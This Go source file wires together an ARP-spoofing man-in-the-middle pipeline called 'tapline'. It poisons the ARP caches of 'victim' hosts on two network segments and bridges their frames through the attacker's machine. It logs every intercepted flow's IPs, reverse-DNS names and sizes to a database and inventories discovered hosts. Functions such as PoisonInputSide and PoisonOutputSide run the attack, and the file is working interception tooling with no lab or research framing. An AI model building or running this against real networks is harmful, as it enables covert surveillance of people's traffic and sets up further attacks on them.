// Package tapline wires the capture, ARP, inspection, resolution, and
// storage subsystems into a running interception pipeline between two
// network interfaces.
package tapline

import (
	"context"
	"database/sql"
	"fmt"
	"net"
	"time"

	"go.uber.org/multierr"
	"go.uber.org/zap"
	"golang.org/x/sync/errgroup"

	"github.com/tapline/tapline/arpengine"
	"github.com/tapline/tapline/arpwire"
	"github.com/tapline/tapline/config"
	"github.com/tapline/tapline/datalink"
	"github.com/tapline/tapline/metrics"
	"github.com/tapline/tapline/mitm"
	"github.com/tapline/tapline/resolve"
	"github.com/tapline/tapline/store"
)

// Endpoint names one side of the bridge: an interface name, the (ipv4,
// mac) tapline presents to the wire on that side, and the real MAC of the
// device reachable through that interface that forwarded frames should
// be addressed to.
type Endpoint struct {
	Interface string
	Local     arpwire.NetworkLocation
	PeerMAC   net.HardwareAddr
}

// Options configures a Pipeline. Fields left zero fall back to
// config.File's defaults.
type Options struct {
	Input, Output Endpoint
	Config        config.File
}

// Pipeline owns every live subsystem for one input<->output bridge.
type Pipeline struct {
	log *zap.Logger
	db  *sql.DB

	inHub, outHub       *datalink.CaptureHub
	inSender, outSender *datalink.FrameSender

	resolver *resolve.NameResolver
	traffic  *store.TrafficLogger

	arpExec                 *arpengine.ArpQueryExecutor
	inSpoofDrv, outSpoofDrv *arpengine.ArpSpoofDriver

	inInspector, outInspector *mitm.Inspector
}

// New opens both interfaces, the database, and the resolver, and wires an
// inspector pair between them. It does not start capture; call Run for
// that.
func New(opts Options, log *zap.Logger) (*Pipeline, error) {
	inSrc, inSink, err := datalink.Open(opts.Input.Interface, datalink.OpenConfig{})
	if err != nil {
		return nil, fmt.Errorf("opening input interface: %w", err)
	}
	outSrc, outSink, err := datalink.Open(opts.Output.Interface, datalink.OpenConfig{})
	if err != nil {
		inSrc.Close()
		return nil, fmt.Errorf("opening output interface: %w", err)
	}

	dbPath := opts.Config.DatabasePath
	if dbPath == "" {
		dbPath = config.DefaultDatabasePath
	}
	db, err := store.Open(dbPath)
	if err != nil {
		inSrc.Close()
		outSrc.Close()
		return nil, fmt.Errorf("opening traffic database: %w", err)
	}

	resolver, err := resolve.New(resolve.Config{
		CacheCapacity: opts.Config.DnsCacheCapacity,
		WorkerCount:   opts.Config.DnsWorkerPoolCount,
	}, log)
	if err != nil {
		db.Close()
		inSrc.Close()
		outSrc.Close()
		return nil, fmt.Errorf("starting name resolver: %w", err)
	}

	p := &Pipeline{
		log:       log,
		db:        db,
		inHub:     datalink.NewCaptureHub(inSrc, log),
		outHub:    datalink.NewCaptureHub(outSrc, log),
		inSender:  datalink.NewFrameSender(inSink, log),
		outSender: datalink.NewFrameSender(outSink, log),
		resolver:  resolver,
		traffic:   store.NewTrafficLogger(db),
	}

	p.arpExec = arpengine.NewArpQueryExecutor(opts.Input.Local, p.inHub, p.inSender, opts.Config.ArpQueryDeadlineDuration(), log)
	// inSpoofDrv poisons whoever is on the input side (told the output-side
	// peer moved); outSpoofDrv poisons the output side symmetrically. Two
	// drivers exist because each transmits through a different interface.
	p.inSpoofDrv = arpengine.NewArpSpoofDriver(p.inSender, opts.Config.SpoofIntervalDuration(), log)
	p.outSpoofDrv = arpengine.NewArpSpoofDriver(p.outSender, opts.Config.SpoofIntervalDuration(), log)
	p.inSpoofDrv.SetCycleHook(func() { metrics.SpoofCycles.Inc() })
	p.outSpoofDrv.SetCycleHook(func() { metrics.SpoofCycles.Inc() })

	// inInspector reads frames captured on the input interface (from the
	// victim side) and re-transmits them out the output interface toward
	// the real peer there; it ignores anything outInspector just wrote
	// back onto the input interface, to avoid looping a frame forever.
	p.inInspector = mitm.NewInspector(mitm.Config{
		OwnMAC:          opts.Output.Local.MAC,
		PeerMAC:         opts.Output.PeerMAC,
		IgnoreSourceMAC: opts.Input.Local.MAC,
	}, p.outSender, &traffickSink{p: p}, log)
	p.outInspector = mitm.NewInspector(mitm.Config{
		OwnMAC:          opts.Input.Local.MAC,
		PeerMAC:         opts.Input.PeerMAC,
		IgnoreSourceMAC: opts.Output.Local.MAC,
	}, p.inSender, &traffickSink{p: p}, log)

	return p, nil
}

// traffickSink adapts mitm.TrafficLogEvent into the store write path,
// enriching with reverse DNS and recording discovery sightings before
// persisting the row. Post hands each event to its own goroutine and
// returns, so the inspector never waits on DNS or the database.
type traffickSink struct{ p *Pipeline }

func (t *traffickSink) Post(ev mitm.TrafficLogEvent) {
	go t.record(ev)
}

func (t *traffickSink) record(ev mitm.TrafficLogEvent) {
	srcDNS, srcHit := t.p.resolver.ResolveHit(net.ParseIP(ev.SrcIP))
	if srcHit {
		metrics.DNSCacheHits.Inc()
	} else {
		metrics.DNSCacheMisses.Inc()
	}
	if srcDNS != resolve.Unknown {
		if err := store.RecordPTR(t.p.db, ev.SrcIP, srcDNS); err != nil {
			t.p.log.Warn("failed to record ptr record", zap.Error(err))
		}
	}
	dstDNS, dstHit := t.p.resolver.ResolveHit(net.ParseIP(ev.DstIP))
	if dstHit {
		metrics.DNSCacheHits.Inc()
	} else {
		metrics.DNSCacheMisses.Inc()
	}
	if dstDNS != resolve.Unknown {
		if err := store.RecordPTR(t.p.db, ev.DstIP, dstDNS); err != nil {
			t.p.log.Warn("failed to record ptr record", zap.Error(err))
		}
	}

	if err := t.p.traffic.Insert(store.TrafficRecord{
		UnixSeconds: ev.UnixSeconds,
		SrcIP:       ev.SrcIP,
		DstIP:       ev.DstIP,
		SrcDNS:      srcDNS,
		DstDNS:      dstDNS,
		FrameLen:    ev.FrameLen,
		PayloadLen:  ev.PayloadLen,
	}); err != nil {
		t.p.log.Error("failed to persist traffic row", zap.Error(err))
		return
	}
	metrics.TrafficRowsWritten.Inc()
}

// Run starts capture on both interfaces, both inspector directions, and
// the spoof driver, blocking until ctx is cancelled or a subsystem fails
// fatally. It always attempts to close every subsystem before returning,
// aggregating any close errors alongside the run error.
func (p *Pipeline) Run(ctx context.Context) error {
	p.inSpoofDrv.Start()
	p.outSpoofDrv.Start()

	// The capture and send workers only return once Close stops them, so
	// they run outside the errgroup that Run waits on.
	go p.inHub.Run()
	go p.outHub.Run()
	go p.inSender.Run()
	go p.outSender.Run()

	g, gctx := errgroup.WithContext(ctx)

	g.Go(func() error { return p.forwardLoop(gctx, p.inHub, p.inInspector) })
	g.Go(func() error { return p.forwardLoop(gctx, p.outHub, p.outInspector) })

	g.Go(func() error {
		select {
		case err := <-p.inHub.Err():
			return fmt.Errorf("input capture: %w", err)
		case err := <-p.outHub.Err():
			return fmt.Errorf("output capture: %w", err)
		case <-gctx.Done():
			return gctx.Err()
		}
	})

	runErr := g.Wait()
	return multierr.Append(runErr, p.Close())
}

func (p *Pipeline) forwardLoop(ctx context.Context, hub *datalink.CaptureHub, insp *mitm.Inspector) error {
	consumer := hub.Subscribe()
	defer consumer.Unsubscribe()
	role := "input"
	if hub == p.outHub {
		role = "output"
	}
	for {
		select {
		case <-ctx.Done():
			return nil
		case f, ok := <-consumer.Frames():
			if !ok {
				return nil
			}
			metrics.FramesCaptured.WithLabelValues(role).Inc()
			insp.Process(f)
		}
	}
}

// Close stops every subsystem and releases the database handle. Safe to
// call after Run returns; Run already calls it on the way out.
func (p *Pipeline) Close() error {
	p.inSpoofDrv.Stop()
	p.outSpoofDrv.Stop()
	p.inHub.Stop()
	p.outHub.Stop()
	p.inSender.Stop()
	p.outSender.Stop()
	p.resolver.Stop()
	return p.db.Close()
}

// DiscoverPeer resolves the MAC address for ip on the input interface,
// recording the sighting in the discovery inventory when it answers.
func (p *Pipeline) DiscoverPeer(ctx context.Context, ip net.IP) (net.HardwareAddr, error) {
	mac, ok := p.arpExec.QueryStrict(ctx, ip)
	if !ok {
		return nil, fmt.Errorf("resolving %s: %w", ip, arpengine.ErrDeadlineElapsed)
	}
	metrics.ArpRepliesObserved.Inc()
	if err := store.UpsertHost(p.db, store.HostRecord{
		MAC:        mac.String(),
		IP:         ip.String(),
		DiscMethod: "active_arp",
	}, time.Now()); err != nil {
		p.log.Warn("failed to record discovered host", zap.Error(err))
	}
	return mac, nil
}

// PoisonInputSide registers a poisoning entry transmitted out the input
// interface: victim (reachable there) will be told impersonated now lives
// at attackerMAC. Used to tell the input-side peer that the output-side
// peer has moved to this pipeline.
func (p *Pipeline) PoisonInputSide(impersonated arpwire.NetworkLocation, attackerMAC net.HardwareAddr, victim arpwire.NetworkLocation) {
	p.inSpoofDrv.AddEntry(arpengine.SpoofingEntry{
		Impersonated: impersonated,
		AttackerMAC:  attackerMAC,
		Victim:       victim,
	})
	metrics.ActiveSpoofEntries.Inc()
}

// PoisonOutputSide is the output-interface symmetric counterpart of
// PoisonInputSide.
func (p *Pipeline) PoisonOutputSide(impersonated arpwire.NetworkLocation, attackerMAC net.HardwareAddr, victim arpwire.NetworkLocation) {
	p.outSpoofDrv.AddEntry(arpengine.SpoofingEntry{
		Impersonated: impersonated,
		AttackerMAC:  attackerMAC,
		Victim:       victim,
	})
	metrics.ActiveSpoofEntries.Inc()
}

// UnpoisonInputSide withdraws a poisoning entry previously added via
// PoisonInputSide, identified by the same (impersonated, victim) pair.
func (p *Pipeline) UnpoisonInputSide(impersonated arpwire.NetworkLocation, attackerMAC net.HardwareAddr, victim arpwire.NetworkLocation) {
	p.inSpoofDrv.RemoveEntry(arpengine.SpoofingEntry{
		Impersonated: impersonated,
		AttackerMAC:  attackerMAC,
		Victim:       victim,
	})
	metrics.ActiveSpoofEntries.Dec()
}

// UnpoisonOutputSide is the output-interface symmetric counterpart of
// UnpoisonInputSide.
func (p *Pipeline) UnpoisonOutputSide(impersonated arpwire.NetworkLocation, attackerMAC net.HardwareAddr, victim arpwire.NetworkLocation) {
	p.outSpoofDrv.RemoveEntry(arpengine.SpoofingEntry{
		Impersonated: impersonated,
		AttackerMAC:  attackerMAC,
		Victim:       victim,
	})
	metrics.ActiveSpoofEntries.Dec()
}

// ResolveEndpoint opens ifaceName just long enough to ARP-query peerIP for
// its MAC address, then closes it. Callers use this during startup to turn
// an operator-supplied (interface, IP) pair into the Endpoint that New
// needs, before the long-lived capture handles are opened.
func ResolveEndpoint(ifaceName string, local arpwire.NetworkLocation, peerIP net.IP, deadline time.Duration, log *zap.Logger) (Endpoint, error) {
	src, sink, err := datalink.Open(ifaceName, datalink.OpenConfig{})
	if err != nil {
		return Endpoint{}, fmt.Errorf("opening %s to resolve peer: %w", ifaceName, err)
	}
	defer src.Close()

	hub := datalink.NewCaptureHub(src, log)
	go hub.Run()
	defer hub.Stop()

	sender := datalink.NewFrameSender(sink, log)
	go sender.Run()
	defer sender.Stop()

	exec := arpengine.NewArpQueryExecutor(local, hub, sender, deadline, log)
	mac, ok := exec.QueryStrict(context.Background(), peerIP)
	if !ok {
		return Endpoint{}, fmt.Errorf("resolving %s on %s: %w", peerIP, ifaceName, arpengine.ErrDeadlineElapsed)
	}
	return Endpoint{Interface: ifaceName, Local: local, PeerMAC: mac}, nil
}
